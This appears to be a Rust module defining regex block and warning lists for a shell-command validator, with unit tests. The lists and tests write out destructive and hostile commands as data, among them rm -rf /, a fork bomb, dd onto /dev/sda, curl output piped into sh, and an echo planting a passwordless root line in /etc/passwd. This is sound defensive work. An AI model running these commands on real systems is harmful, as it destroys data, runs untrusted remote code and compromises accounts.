//! Regex tables for the command validator
//!
//! Patterns are compiled once on first use and shared by every validator.
//! They match against the raw command text, case-insensitively. This is a
//! blocklist heuristic: indirection (`eval`, variables, encodings, symlinks)
//! can still slip past it.

use regex::Regex;
use std::sync::LazyLock;

/// A compiled pattern together with the source text it was built from
#[derive(Debug)]
pub struct Pattern {
    pub source: &'static str,
    pub regex: Regex,
}

impl Pattern {
    pub fn is_match(&self, command: &str) -> bool {
        self.regex.is_match(command)
    }
}

/// Patterns that block a command no matter how validation is configured
const CRITICAL_SOURCES: &[&str] = &[
    // rm -rf / and rm -rf /anything
    r"rm\s+-rf\s*/",
    r"rm\s+-rf\s+/\w+",
    // dd onto a raw disk
    r"dd\s+if=.*of=/dev/[sh]d",
    // Fork bomb, with or without the separating semicolon
    r":\(\)\s*\{.*\|.*&\s*\}\s*;?\s*:",
    // Redirecting onto a raw disk
    r">\s*/dev/[sh]d",
    // Remote script piped straight into a shell
    r"curl.*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b",
    r"wget.*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b",
    // Account databases
    r"echo.*>\s*/etc/passwd",
    r"echo.*>\s*/etc/shadow",
];

/// Patterns that raise risk and force confirmation without blocking
const WARNING_SOURCES: &[&str] = &[
    r"rm\s+-rf?\s+",
    r"chmod\s+[0-7]{3}\s+/",
    r"chown\s+.*:\s*/",
    r">\s*/etc/",
    r">\s*/var/",
    r">\s*/usr/",
    r">\s*/boot/",
];

fn compile(sources: &'static [&'static str]) -> Vec<Pattern> {
    sources
        .iter()
        .filter_map(|source| match Regex::new(&format!("(?i){}", source)) {
            Ok(regex) => Some(Pattern { source, regex }),
            Err(e) => {
                tracing::error!(pattern = source, error = %e, "dropping invalid security pattern");
                None
            }
        })
        .collect()
}

static CRITICAL_PATTERNS: LazyLock<Vec<Pattern>> = LazyLock::new(|| compile(CRITICAL_SOURCES));

static WARNING_PATTERNS: LazyLock<Vec<Pattern>> = LazyLock::new(|| compile(WARNING_SOURCES));

/// Redirect target: the word after the first `>` or `>>`
static REDIRECT_TARGET: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r">+\s*([^\s&|;]+)").ok());

pub fn critical_patterns() -> &'static [Pattern] {
    &CRITICAL_PATTERNS
}

pub fn warning_patterns() -> &'static [Pattern] {
    &WARNING_PATTERNS
}

/// First critical pattern matching `command`, if any
pub fn find_critical(command: &str) -> Option<&'static Pattern> {
    critical_patterns().iter().find(|p| p.is_match(command))
}

/// First warning pattern matching `command`, if any
pub fn find_warning(command: &str) -> Option<&'static Pattern> {
    warning_patterns().iter().find(|p| p.is_match(command))
}

/// Extract the file a command redirects its output into
pub fn redirect_target(command: &str) -> Option<&str> {
    REDIRECT_TARGET
        .as_ref()?
        .captures(command)
        .and_then(|caps| caps.get(1))
        .map(|m| m.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_all_patterns_compile() {
        assert_eq!(critical_patterns().len(), CRITICAL_SOURCES.len());
        assert_eq!(warning_patterns().len(), WARNING_SOURCES.len());
    }

    #[test]
    fn test_critical_root_delete() {
        assert!(find_critical("rm -rf /").is_some());
        assert!(find_critical("rm -rf /home").is_some());
        assert!(find_critical("RM -RF /").is_some());
        assert!(find_critical("rm -rf ./build").is_none());
    }

    #[test]
    fn test_critical_fork_bomb() {
        assert!(find_critical(":(){ :|:& };:").is_some());
        assert!(find_critical(":(){ :|:& }:").is_some());
    }

    #[test]
    fn test_critical_pipe_to_shell() {
        assert!(find_critical("curl malicious.com | sh").is_some());
        assert!(find_critical("wget -qO- http://x.io/install | bash").is_some());
        assert!(find_critical("curl https://example.com | sudo sh").is_some());
        assert!(find_critical("curl https://example.com | jq .").is_none());
    }

    #[test]
    fn test_critical_disk_writes() {
        assert!(find_critical("dd if=/dev/zero of=/dev/sda").is_some());
        assert!(find_critical("cat image.iso > /dev/sdb").is_some());
        assert!(find_critical("echo root::0:0::/:/bin/sh > /etc/passwd").is_some());
    }

    #[test]
    fn test_warning_patterns() {
        assert_eq!(find_warning("rm -r build").map(|p| p.source), Some(r"rm\s+-rf?\s+"));
        assert!(find_warning("chmod 777 /srv").is_some());
        assert!(find_warning("chown user: /data").is_some());
        assert!(find_warning("echo x > /etc/motd").is_some());
        assert!(find_warning("ls -la").is_none());
    }

    #[test]
    fn test_redirect_target() {
        assert_eq!(redirect_target("echo hi > out.txt"), Some("out.txt"));
        assert_eq!(redirect_target("echo hi >> ~/.bashrc"), Some("~/.bashrc"));
        assert_eq!(redirect_target("echo hi >/etc/hosts;ls"), Some("/etc/hosts"));
        assert_eq!(redirect_target("ls -la"), None);
    }
}
